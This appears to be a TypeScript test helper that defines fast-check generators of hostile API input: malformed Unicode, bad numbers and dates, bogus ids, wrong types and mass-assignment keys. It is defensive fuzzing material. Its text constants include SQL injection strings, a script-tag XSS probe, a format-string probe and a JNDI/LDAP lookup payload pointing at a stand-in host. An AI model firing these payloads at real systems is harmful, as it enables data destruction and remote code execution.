import fc from 'fast-check';

/** Text no field should take as it is: NUL, unpaired surrogates, bidi overrides, nothing visible, too much. */
export const HOSTILE_TEXT: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '\u0000',
    'Ana\u0000Quintero',
    'reflection \uD83D half',
    '\uDC00 leading low half',
    'Ana \u202EoretniuQ',
    '\u202Egnp.exe',
    '\u200B\u200C\u200D\uFEFF',
    '\u2060',
    '',
    '   ',
    '\t\r\n',
    '\u0007\u001b[31mred',
    'Z\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
    "'; DROP TABLE app_user; --",
    "1' OR '1'='1",
    '<script>alert(1)</script>',
    '${jndi:ldap://example.org/a}',
    '%s%s%s%n',
    'x'.repeat(100_000),
    '\u{1F600}'.repeat(50_000),
    '\u0000'.repeat(1_000),
  ),
  // Any UTF-16 code units, lone surrogates and controls included.
  fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength: 40 }),
);

/** Numbers where an Int is expected: out of 32-bit range, negative, fractional, or not numbers at all. */
export const HOSTILE_INT: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(0, -1, -2147483648, 2147483647, 2147483648, -2147483649, 1e10, 1.5, 0.1, -0.5, Number.MAX_SAFE_INTEGER, 1e308, '12', '', 'ten'),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Not an instant with a zone, whatever a lenient parser makes of them: the API refuses each. */
export const INVALID_DATE_TIMES = [
  '2026-09-31T17:00:00Z',
  '2023-10-13T09:00:00',
  '10/13/2023',
  '2026-02-29T10:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-10-13T25:00:00Z',
  '2026-10-13T09:00:00+25:00',
  '2026-10-13',
  'now',
  '',
];

export const HOSTILE_DATE_TIME: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INVALID_DATE_TIMES) },
  // At the edges of what dates can be: refused or stored, never a server error.
  { weight: 1, arbitrary: fc.constantFrom('2026-10-13 09:00:00Z', '0000-01-01T00:00:00Z', '+275760-09-13T00:00:01Z', '-000001-01-01T00:00:00Z', '9999-12-31T23:59:60Z', 1_791_000_000_000) },
);

/** Not a `YYYY-MM-DD` calendar day: the API refuses each. */
export const INVALID_DATES = ['2026-02-30', '2026-09-31', '2026-9-1', '20261014', '2026-10-14T00:00:00Z', '10/13/2023', '0000-00-00', ''];

export const HOSTILE_DATE: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INVALID_DATES) },
  { weight: 1, arbitrary: fc.constantFrom('0000-01-01', '9999-12-31', '+010000-01-01', '-001000-01-01', 20261014) },
);

/** Ids that are not ids of anything here: random UUIDs, the nil UUID, and strings that are no UUID at all. */
export function hostileIds(realIds: string[]): fc.Arbitrary<unknown> {
  const real = fc.constantFrom(...realIds);
  return fc.oneof(
    { weight: 2, arbitrary: fc.uuid() },
    fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', 'not-a-uuid', '1', '', ' ', "1' OR '1'='1", 'x'.repeat(100_000), 42, -1, 1.5),
    // A real id in capitals is the same UUID to PostgreSQL but another string to JavaScript.
    { weight: 3, arbitrary: real.map((id) => id.toUpperCase()) },
    real.map((id) => `${id}\u0000`),
    real.map((id) => ` ${id} `),
    real.map((id) => `{${id}}`),
    real.map((id) => id.replace(/-/g, '')),
    real.map((id) => id.slice(0, -1)),
  );
}

/** A value of any JSON type at all, for any field. */
export const WRONG_TYPE: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, 0, 7, -3.25, '', 'text', [], {}, [null], { nested: null }, [[]]),
  fc.jsonValue({ maxDepth: 2 }),
);

/** Keys no input declares, some of them what a mass-assignment would try. */
export const EXTRA_KEYS = fc.constantFrom('unexpected', '__proto__', 'constructor', 'isAdmin', 'id', 'status', 'participantId', 'createdAt', 'version');
